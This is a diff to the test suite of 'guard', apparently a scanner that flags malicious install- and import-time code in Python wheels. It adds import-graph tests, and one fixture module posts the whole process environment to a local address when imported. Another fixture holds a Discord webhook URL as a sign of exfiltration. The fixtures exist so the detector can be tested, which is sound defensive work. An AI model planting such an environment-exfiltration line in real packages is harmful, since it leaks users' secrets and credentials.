@@ -17,9 +17,10 @@ import pytest
 from packaging.utils import canonicalize_name
 from packaging.version import Version
 
-from guard.analysis.scan import ScanResult, scan_archive
+from guard.analysis.scan import ScanResult, scan_archive, scanner
 from guard.analysis.scan.archive import Limits, UnsafeArchive, native_kind, read_archive
 from guard.analysis.scan.python import analyse
+from guard.analysis.scan.python.outline import module_imports
 from guard.models import Action, Candidate, Source
 from guard.rules.base import Context
 from guard.rules.scan import SCAN_RULES, InstallTimeCode
@@ -877,14 +878,65 @@ def test_a_padded_init_leaves_no_module_it_imports_unread(tmp_path: Path) -> Non
         "demo/__init__.py": init + "collect()\n",
         "demo/_impl.py": payload,
     }
-    result = scan(wheel(tmp_path, files), budget=0.01)
+    result = scan(wheel(tmp_path, files), budget=0.05)
     assert result.level == "block"
     assert any(s.file == "demo/_impl.py" for s in result.signals)
     # and a module imported later still has its text read when the budget is spent
     files["demo/_impl.py"] = "from ._late import go\n"
     files["demo/_late.py"] = "x = 'https://discord.com/api/webhooks/1/abcdefghijklmnop'\n"
-    late = scan(wheel(tmp_path, files, name="late-1.0"), budget=0.01)
+    late = scan(wheel(tmp_path, files, name="late-1.0"), budget=0.05)
     assert any(s.file == "demo/_late.py" for s in late.signals)
+
+
+def test_an_import_graph_past_the_limit_blocks_and_says_why(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # 100 modules, each importing the next and holding 10 KB of code: with the
+    # limit past the budget lowered to what 2 of them cost, the rest are not read
+    monkeypatch.setattr(scanner, "IMPORT_TIME_WORK", 30_000.0)
+    filler = "".join(f"VALUE_{i} = {i}\n" for i in range(800))
+    files: dict[str, str | bytes] = {"demo/__init__.py": "from . import m0\n"}
+    for i in range(100):
+        files[f"demo/m{i}.py"] = f"import os\nfrom . import m{i + 1}\n" + filler
+    files["demo/m100.py"] = "x = 1\n"
+    result = scan(wheel(tmp_path, files), budget=0.001)
+    assert result.level == "block"
+    assert any(
+        s.kind == "unanalysed" and "imported at import time" in s.text for s in result.signals
+    )
+    # the same graph within the limit is read to its end, and is clean
+    monkeypatch.undo()
+    (tmp_path / "ok").mkdir()
+    assert scan(wheel(tmp_path / "ok", files), budget=0.001).level == "clean"
+
+
+def test_the_imports_of_a_module_read_without_a_parse() -> None:
+    source = (
+        "import os, sys as system\n"
+        "from . import first\n"
+        "from .inner import (\n    a,\n    b as c,\n)\n"
+        "from pkg.sub import thing  # a comment\n"
+        "def later():\n"
+        "    from . import hidden\n"
+    )
+    found = module_imports(source)
+    assert found == ("os", "sys", "first", "inner.a", "inner.b", "pkg.sub", "pkg.sub.thing")
+
+
+def test_a_module_not_parsed_still_leads_to_what_it_imports(tmp_path: Path) -> None:
+    # __init__ -> a (nothing to act on, read as text) -> b, whose module-level code
+    # sends the environment: b runs at import whatever a looks like
+    files: dict[str, str | bytes] = {
+        "demo/__init__.py": "from . import a\n",
+        "demo/a.py": "from . import b\nNAME = 'a'\n",
+        "demo/b.py": (
+            "import os, requests\nrequests.post('http://127.0.0.1:9/e', json=dict(os.environ))\n"
+        ),
+    }
+    result = scan(wheel(tmp_path, files), budget=0.0)
+    assert result.level == "block"
+    assert any(s.file == "demo/b.py" and s.role == "imported" for s in result.signals)
+    assert not any(s.kind == "unanalysed" for s in result.signals)
 
 
 # --- the rule ---------------------------------------------------------------------------
